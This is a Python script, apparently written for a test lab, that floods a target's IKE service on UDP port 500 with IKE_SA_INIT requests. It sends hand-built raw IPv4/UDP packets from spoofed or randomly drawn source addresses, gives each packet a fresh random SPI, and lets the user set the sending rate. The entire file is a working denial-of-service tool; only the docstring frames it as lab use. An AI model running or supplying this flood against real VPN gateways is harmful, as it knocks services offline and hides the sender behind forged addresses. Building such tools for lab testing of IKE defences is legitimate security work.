#!/usr/bin/env python3
"""IKE_SA_INIT flood for the lab: sends COUNT copies of one IKE_SA_INIT request, each with a
fresh random initiator SPI, from spoofed source addresses, as raw IPv4/UDP packets (needs
root; run it in the attacker's namespace).

  ike_flood.py TEMPLATE_HEX DST_ADDR COUNT PPS SOURCE [SOURCE...]

TEMPLATE_HEX is the IKE message (header first) as hex; it goes to DST_ADDR:500 from port 500.
PPS paces the flood (packets per second, 0 = as fast as the socket takes them). Sources are
used in turn; a SOURCE is an IPv4 address, or a /N prefix from which each packet draws a
random address.
Prints one JSON object: {"sent": COUNT, "seconds": elapsed}.
"""
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def source(spec):
    net = ipaddress.ip_network(spec, strict=False)
    if net.num_addresses == 1:
        return lambda: net.network_address.packed
    first, size = int(net.network_address), net.num_addresses
    return lambda: ipaddress.IPv4Address(first + random.randrange(1, size - 1)).packed


def main(template_hex, dst, count, pps, sources):
    ike = bytearray(bytes.fromhex(template_hex))
    dst_b = socket.inet_aton(dst)
    pick = [source(s) for s in sources]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.monotonic()
    for i in range(count):
        ike[0:8] = os.urandom(8)
        src = pick[i % len(pick)]()
        udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
        pseudo = src + dst_b + struct.pack("!BBH", 0, 17, len(udp))
        udp = udp[:6] + struct.pack("!H", checksum(pseudo + udp) or 0xFFFF) + udp[8:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), i & 0xFFFF, 0, 64, 17, 0, src, dst_b)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        s.sendto(ip + udp, (dst, 0))
        if pps and i % 50 == 49:
            ahead = start + (i + 1) / pps - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    print(json.dumps({"sent": count, "seconds": round(time.monotonic() - start, 3)}), flush=True)


if __name__ == "__main__":
    a = sys.argv[1:]
    if len(a) < 5:
        sys.exit(__doc__)
    main(a[0], a[1], int(a[2]), float(a[3]), a[4:])
